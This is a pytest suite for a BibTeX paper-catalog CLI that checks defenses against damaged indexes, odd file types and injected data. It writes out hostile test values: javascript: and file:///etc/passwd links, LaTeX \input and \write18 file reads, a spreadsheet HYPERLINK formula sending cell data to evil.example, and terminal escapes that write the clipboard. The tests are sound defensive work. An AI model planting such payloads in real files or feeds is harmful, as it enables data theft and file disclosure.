"""Hostile data and hostile places (issue 15): nothing lost, nothing injected, one clear line.

Each fault is reproduced through the real CLI: a local arXiv stand-in serving hostile
answers, real file-system situations (symlinks, FIFOs, devices, owners, a full disk).
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import time
from html import escape
from pathlib import Path

import pytest
from conftest import DATA_BIB, by_arxiv

from ke_papers import index
from ke_papers.usecases.reading import open_catalog

ROOT = os.geteuid() == 0
KE_PAPERS = str(Path(sys.executable).with_name("ke-papers"))


def hostile_entry(server, arxiv_id: str, title: str, author: str = "Ann Lee") -> None:
    """Serve `arxiv_id` with this title and author (a recorded entry, rewritten)."""
    entry = next(iter(server.entries.values()))
    entry = re.sub(r"<id>[^<]*</id>", f"<id>http://arxiv.org/abs/{arxiv_id}v1</id>", entry, count=1)
    entry = re.sub(
        r"<title>.*?</title>", lambda m: f"<title>{escape(title)}</title>", entry, flags=re.S
    )
    entry = re.sub(
        r"(<author>\s*<name>).*?(</name>)",
        lambda m: m[1] + escape(author) + m[2],
        entry,
        count=1,
        flags=re.S,
    )
    entry = re.sub(r"<arxiv:journal_ref[^>]*>.*?</arxiv:journal_ref>", "", entry, flags=re.S)
    server.entries[arxiv_id] = entry


@pytest.fixture
def mine(tmp_path: Path) -> Path:
    bib = tmp_path / "mine.bib"
    bib.write_bytes(DATA_BIB.read_bytes())
    return bib


# --- data integrity ----------------------------------------------------------------------


@pytest.mark.parametrize("damage", ["truncated", "garbage", "emptied"])
def test_a_damaged_index_is_set_aside_and_rebuilt(run, mine: Path, damage: str, monkeypatch):
    expected = run.json("--bib", str(mine), "list", "--json")
    db = index.location(mine)
    run("--bib", str(mine), "list")  # the WAL is checkpointed into the database on close
    blob = db.read_bytes()
    damaged = {
        "truncated": blob[: len(blob) // 3],
        "garbage": b"\x00junk" * 4096,
        "emptied": blob[:100] + bytes(len(blob) - 100),
    }[damage]
    for suffix in ("-wal", "-shm"):
        Path(f"{db}{suffix}").unlink(missing_ok=True)
    db.write_bytes(damaged)
    result = run("--bib", str(mine), "list", "--json")
    assert json.loads(result.stdout) == expected
    assert result.stderr.count("\n") <= 1 and "Traceback" not in result.stderr
    assert run.json("--bib", str(mine), "list", "--json") == expected  # rebuilt
    monkeypatch.setenv("KE_PAPERS_NO_CACHE", "1")
    assert run.json("--bib", str(mine), "list", "--json") == expected


def test_writes_never_trust_a_damaged_index(run, arxiv_server, mine: Path):
    run("--bib", str(mine), "list")  # the index is built
    db = index.location(mine)
    db.write_bytes(db.read_bytes()[:-3000] + b"\x00" * 3000)
    before = mine.read_text(encoding="utf-8")
    run("--bib", str(mine), "add", "1605.08386", "-c", "Analysis")
    after = mine.read_text(encoding="utf-8")
    assert after.startswith(before[: before.index("@article{hernandez2023inspecting")])
    assert len(open_catalog(mine)) == 46 and after.count("\n@") == before.count("\n@") + 1


def test_a_symlinked_bib_is_written_through(run, arxiv_server, mine: Path, tmp_path: Path):
    link = tmp_path / "link.bib"
    link.symlink_to(mine)
    run("--bib", str(link), "add", "1605.08386", "-c", "Analysis")
    assert link.is_symlink() and os.readlink(link) == str(mine)
    assert by_arxiv(open_catalog(mine), "1605.08386") is not None


@pytest.mark.skipif(not ROOT, reason="changing a file's owner needs root")
def test_a_write_keeps_owner_group_and_mode(run, mine: Path):
    os.chown(mine, 1234, 2345)
    mine.chmod(0o640)
    run("--bib", str(mine), "edit", "meng2022locating", "--set", "note=Oral")
    st = mine.stat()
    assert (st.st_uid, st.st_gid, st.st_mode & 0o777) == (1234, 2345, 0o640)


def test_hard_links_devices_and_fifos_are_not_replaced(run, mine: Path, tmp_path: Path):
    twin = tmp_path / "twin.bib"
    os.link(mine, twin)
    result = run("--bib", str(mine), "edit", "meng2022locating", "--set", "note=x", code=2)
    assert "hard links" in result.stderr and os.stat(twin).st_ino == os.stat(mine).st_ino
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    result = run(
        "--bib", str(DATA_BIB), "cite", "meng2022locating", "-o", str(fifo), "--force", code=2
    )
    assert "not a regular file" in result.stderr and fifo.is_fifo()


# --- injection ---------------------------------------------------------------------------


def test_imported_links_never_reach_the_page_unless_http(run, tmp_path: Path):
    listing = tmp_path / "list.md"
    listing.write_text(
        "## Papers\n### A\n1. **Evil Links** <br />\nAnn Lee.\n"
        "[[paper](https://arxiv.org/abs/2401.00002)] [[code](javascript:alert`1`)] "
        "[[demo](data:text/html,x)] [[page](file:///etc/passwd)] [[video](https://ok.org/v)]\n",
        encoding="utf-8",
    )
    bib = tmp_path / "new.bib"
    run("--bib", str(bib), "import", str(listing), code=None)
    page = run("--bib", str(bib), "export", "--markdown").stdout
    from markdown_it import MarkdownIt

    tokens = MarkdownIt("commonmark").parse(page)
    hrefs = [
        c.attrs["href"]
        for t in tokens
        if t.type == "inline"
        for c in t.children or []
        if c.type == "link_open"
    ]
    assert "https://ok.org/v" in hrefs
    assert all(h.startswith(("#", "https://")) for h in hrefs), hrefs


def test_latex_from_arxiv_cannot_read_files(run, arxiv_server, tmp_path: Path):
    hostile_entry(arxiv_server, "2401.00003", "\\input /etc/hostname Safe \\immediate\\write18{x}")
    bib = tmp_path / "x.bib"
    run("--bib", str(bib), "add", "2401.00003")
    out = run("--bib", str(bib), "cite", "-q", "safe").stdout
    assert "\\input" not in out.replace("\\textbackslash{}input", "")
    assert "\\textbackslash{}input" in out and "\\textbackslash{}write18" in out
    if shutil.which("pdflatex") and shutil.which("bibtex"):
        (tmp_path / "refs.bib").write_text(out, encoding="utf-8")
        key = re.search(r"@\w+\{([^,]+),", out)[1]
        (tmp_path / "doc.tex").write_text(
            "\\documentclass{article}\\usepackage[T1]{fontenc}\\begin{document}"
            f"\\cite{{{key}}}\\bibliographystyle{{plain}}\\bibliography{{refs}}\\end{{document}}\n",
            encoding="utf-8",
        )
        for step in (
            ["pdflatex", "-interaction=nonstopmode", "doc"],
            ["bibtex", "doc"],
            ["pdflatex", "-interaction=nonstopmode", "doc"],
        ):
            subprocess.run(step, cwd=tmp_path, capture_output=True, timeout=120, check=False)
        assert "/etc/hostname" not in (tmp_path / "doc.log").read_text(errors="replace")


def test_csv_cells_never_start_a_formula(run, arxiv_server, tmp_path: Path):
    hostile_entry(
        arxiv_server, "2401.00004", '=HYPERLINK("http://evil.example/"&A1,"x")', "-Mallory"
    )
    bib = tmp_path / "x.bib"
    run("--bib", str(bib), "add", "2401.00004")
    import csv
    import io

    rows = list(csv.reader(io.StringIO(run("--bib", str(bib), "export", "--csv").stdout)))
    assert rows[1][1].startswith("'=HYPERLINK") and rows[1][2].startswith("'-Mallory")


def test_terminal_escapes_and_markup_print_as_text(run, arxiv_server, tmp_path: Path):
    title = "Clear\x1b[2J Clip\x1b]52;c;ZXZpbA==\x07 [link=https://evil.example]Trusted[/link] the [mask] token a[i] [/]"
    hostile_entry(arxiv_server, "2401.00005", title, "Robert [/] Tables")
    bib = tmp_path / "x.bib"
    run("--bib", str(bib), "add", "2401.00005")
    key = run.json("--bib", str(bib), "list", "--json")[0]["key"]
    for args in (["list"], ["search", "trusted"], ["show", key], ["taxonomy"]):
        out = run("--bib", str(bib), *args).stdout
        assert "\x1b" not in out and "\x07" not in out, args
    from rich.console import Console

    from ke_papers.render import terminal

    paper = open_catalog(bib).papers[0]
    console = Console(width=120, record=True, force_terminal=True, file=open(os.devnull, "w"))  # noqa: SIM115
    console.print(terminal.papers_table([paper], None, 120))
    console.print(terminal.paper_panel(paper))
    console.print(terminal.section_tree(open_catalog(bib).tree(), "x [/b] y"))
    shown = console.export_text(styles=True, clear=False)
    plain = console.export_text()
    assert "evil.example" in shown and not re.search(
        r"\x1b\]8;[^;]*;[^\x1b]*evil", shown
    )  # printed, not a hyperlink
    assert "[mask]" in plain and "a[i]" in plain and "[/]" in plain


# --- crashes and hangs -------------------------------------------------------------------


@pytest.mark.parametrize("mode", ["drip", "bomb", "huge"])
def test_a_hostile_server_is_cut_off(run, arxiv_server, tmp_path: Path, monkeypatch, mode: str):
    from arxiv_server import gzip_bomb

    gzip_bomb()  # built before the clock starts
    monkeypatch.setenv("KE_PAPERS_ARXIV_TIMEOUT", "2")
    arxiv_server.mode = mode
    start = time.monotonic()
    result = run("--bib", str(tmp_path / "x.bib"), "add", "1605.08386", "--no-cache", code=2)
    assert time.monotonic() - start < 60
    assert result.stderr.count("\n") == 1
    assert ("within 2 s" if mode == "drip" else "larger than 32 MiB") in result.stderr


@pytest.mark.parametrize(
    "args",
    [
        ["--bib", "/dev/zero", "list"],
        ["--bib", str(DATA_BIB), "cite", "--tex", "/dev/zero"],
        ["--bib", str(DATA_BIB), "cite", "--aux", "/dev/urandom"],
    ],
)
def test_devices_are_refused_at_once(args: list[str]):
    result = subprocess.run([KE_PAPERS, *args], capture_output=True, text=True, timeout=30)
    assert result.returncode == 2 and "not a regular file" in result.stderr


def test_a_fifo_does_not_hang(tmp_path: Path):
    fifo = tmp_path / "fifo.bib"
    os.mkfifo(fifo)
    for args in (
        ["--bib", str(fifo), "list"],
        ["--bib", str(DATA_BIB), "cite", "--tex", str(fifo)],
    ):
        result = subprocess.run([KE_PAPERS, *args], capture_output=True, text=True, timeout=30)
        assert result.returncode == 2 and "not a regular file" in result.stderr


def test_a_deep_input_chain_is_walked(run, tmp_path: Path):
    for i in range(1000):
        (tmp_path / f"c{i}.tex").write_text(
            f"\\cite{{k{i}}}\\input{{c{i + 1}}}\n", encoding="utf-8"
        )
    (tmp_path / "c1000.tex").write_text("\\input{c0}\n", encoding="utf-8")  # and a cycle
    result = run("--bib", str(DATA_BIB), "cite", "--tex", str(tmp_path / "c0.tex"), code=1)
    assert result.stderr.count("unknown key") == 1000


@pytest.mark.skipif(not ROOT, reason="mounting a small tmpfs needs root")
def test_a_full_disk_is_one_line_and_loses_nothing(run, tmp_path: Path):
    disk = tmp_path / "disk"
    disk.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=128k", "tmpfs", str(disk)]).returncode:
        pytest.skip("this machine does not let the tests mount a tmpfs")
    try:
        bib = disk / "papers.bib"
        text = "@misc{a2020b, title = {B}, year = {2020}}\n"
        bib.write_text(text, encoding="utf-8")
        (disk / "filler").write_bytes(b"x" * (120 * 1024))
        big = "y" * 20_000
        result = run("--bib", str(bib), "edit", "a2020b", "--set", f"abstract={big}", code=2)
        assert result.stderr.count("\n") == 1 and "cannot write" in result.stderr
        assert bib.read_text(encoding="utf-8") == text
        assert sorted(p.name for p in disk.iterdir()) == ["filler", "papers.bib"]
    finally:
        subprocess.run(["umount", str(disk)], check=False)


# --- unclear messages ----------------------------------------------------------------------


def test_bad_keys_and_values_are_named_at_the_door(run, arxiv_server, tmp_path: Path):
    bib = tmp_path / "x.bib"
    for key in ("a,b", "x}y", "a b", "a\nb"):
        result = run("--bib", str(bib), "add", "1605.08386", "--key", key, code=2)
        assert "not a valid BibTeX key" in result.stderr and "bug" not in result.stderr
    run("--bib", str(bib), "add", "1605.08386", "--code", "https://x.org/a}b")
    assert open_catalog(bib).papers[0].extra_links[0].url == "https://x.org/a%7Db"
    hostile_entry(arxiv_server, "2401.00006", "Ends in a backslash \\")
    run("--bib", str(bib), "add", "2401.00006")
    listing = tmp_path / "nul.md"
    listing.write_text(
        "## Papers\n### A\n1. **Null\x00 Title** <br />\nAnn Lee.\n[[paper](https://arxiv.org/abs/2401.00007)]\n",
        encoding="utf-8",
    )
    result = run("--bib", str(bib), "import", str(listing), code=None)
    assert "bug" not in result.stderr and "Traceback" not in result.stderr


def test_temporary_files_of_dead_writers_are_cleaned(run, mine: Path):
    dead = mine.parent / f".{mine.name}.999999999.abc.tmp"
    dead.write_text("half a write", encoding="utf-8")
    os.utime(dead, (time.time() - 3600, time.time() - 3600))
    alive = mine.parent / f".{mine.name}.{os.getpid()}.def.tmp"
    alive.write_text("a write going on", encoding="utf-8")
    run("--bib", str(mine), "edit", "meng2022locating", "--set", "note=x")
    assert not dead.exists() and alive.exists()


def test_readme_markers_with_crlf_bom_and_fences(run, tmp_path: Path):
    readme = tmp_path / "README.md"
    readme.write_bytes(
        b"\xef\xbb\xbf# List\r\n\r\n```md\r\n<!-- ke-papers:start -->\r\n<!-- ke-papers:end -->\r\n```\r\n\r\n"
        b"<!-- ke-papers:start -->\r\nold\r\n<!-- ke-papers:end -->\r\nafter\r\n"
    )
    run("--bib", str(DATA_BIB), "export", "--readme", str(readme))
    data = readme.read_bytes()
    assert data.startswith(
        b"\xef\xbb\xbf# List\r\n\r\n```md\r\n<!-- ke-papers:start -->\r\n<!-- ke-papers:end -->\r\n```"
    )
    assert (
        b"\r\nold\r\n" not in data
        and b"## Papers\r\n" in data
        and b"\n\n" not in data.replace(b"\r\n", b"")
    )
    again = run("--bib", str(DATA_BIB), "export", "--readme", str(readme))
    assert again.stderr == f"{readme} is up to date\n" and readme.read_bytes() == data
